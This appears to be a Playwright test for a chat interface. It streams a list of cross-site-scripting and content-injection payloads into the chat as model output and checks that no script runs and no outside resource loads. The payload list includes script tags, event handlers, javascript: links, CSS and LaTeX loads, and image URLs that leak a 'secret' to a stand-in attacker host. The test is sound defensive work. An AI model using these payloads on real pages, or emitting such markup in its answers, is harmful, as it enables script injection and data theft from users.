import type { Page } from "@playwright/test";
import { ChatPage } from "../fixtures/chat-page.ts";
import { expect, scripted as test } from "../fixtures/scripted.ts";

/** Each would run a script or load something, if the page let it. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/leak.png>",
  "![leak](https://evil.example/leak.png?q=secret)",
  "![x](javascript:alert(1))",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox(1))",
  '<a href="javascript:alert(1)">click</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=https://evil.example></object>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<style>@import url(https://evil.example/a.css);</style>",
  "<style>body{background:url(https://evil.example/b.png)}</style>",
  '<div style="background:url(https://evil.example/c.png)">x</div>',
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><button>go</button></form>",
  "<video src=https://evil.example/v><audio src=https://evil.example/a>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n| --- |\n| <script>alert(1)</script> |",
  "<https://evil.example/auto> and javascript:alert(1)",
  "[a]: javascript:alert(1)\n[a]",
  "\\<script>alert(1)\\</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "😀<img src=x onerror=alert(1)>😀[a](javascript:alert(1))😀",
  "$\\href{javascript:alert(1)}{x}$ and $x^2$",
  "$$\\includegraphics{https://evil.example/leak.png}$$",
  "$\\htmlStyle{background:url(https://evil.example/d.png)}{x}$ $\\style{x}{y}$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [a](javascript:alert(1))",
  "- [x] <img src=x onerror=alert(1)>\n- [ ] [a](javascript:alert(1))",
  '[a](https://example.org/"onmouseover="alert(1))',
  "[a](https://example.org 'x\" onmouseover=\"alert(1)')",
  "# <svg/onload=alert(1)>",
  "> <iframe src=javascript:alert(1)>",
  "www.evil.example/<script>alert(1)</script>",
];

/** Pages that show answers side by side, each its share of them. */
const PAGES = 3;
/** From one letter to the next: as long as a frame, so that each beginning of an answer is shown. */
const FRAME_MS = 17;
const HOSTILE = "script, iframe, object, embed, form, base, style, link, [onerror], [onload]";

/** What happens in a page that must not happen. */
function watch(page: Page, origin = ""): string[] {
  const happened: string[] = [];
  page.on("dialog", (dialog) => {
    happened.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(`${origin}/`)) happened.push(`request: ${request.url()}`);
  });
  // Nothing even tries: the policy of the page is the second line of defence, not the first.
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) happened.push(message.text());
  });
  return happened;
}

/** Has the model think this, and write it letter by letter. */
async function streamHostile(chat: ChatPage, text: string, end: string): Promise<void> {
  const { answers } = chat;
  const script = { thought: text, chunks: [...text, `\n\n${end}`], intervalMs: FRAME_MS };
  await chat.say({ prompt: JSON.stringify(script) });
  await expect(answers.last()).toContainText(end);
  await chat.expectEnd();
  // Older answers leave the document when they are far from the viewport, so each is looked at now.
  await expect(answers.locator(HOSTILE)).toHaveCount(0);
  const links = await answers.locator("a[href], [src]").evaluateAll((nodes) =>
    nodes.map((node) => ({
      address: node.getAttribute("href") ?? node.getAttribute("src"),
      rel: node.getAttribute("rel"),
    })),
  );
  for (const { address, rel } of links) {
    expect(address).toMatch(/^(https?:|mailto:|#)/);
    if (!address?.startsWith("#")) expect(rel).toContain("noopener");
  }
}

test("whatever a model writes, letter by letter: no script runs, nothing is loaded", async ({
  browser,
  baseURL,
}) => {
  const share = async (number: number) => {
    // Tabs of one person show the same conversation.
    const context = await browser.newContext({ baseURL });
    const page = await context.newPage();
    const happened = watch(page, baseURL);
    const chat = new ChatPage(page);
    await chat.open();
    for (const [index, text] of CORPUS.entries()) {
      if (index % PAGES === number) await streamHostile(chat, text, `end ${index}`);
    }
    await context.close();
    return happened;
  };
  const all = await Promise.all(Array.from({ length: PAGES }, (_, number) => share(number)));
  expect(all.flat()).toEqual([]);
});
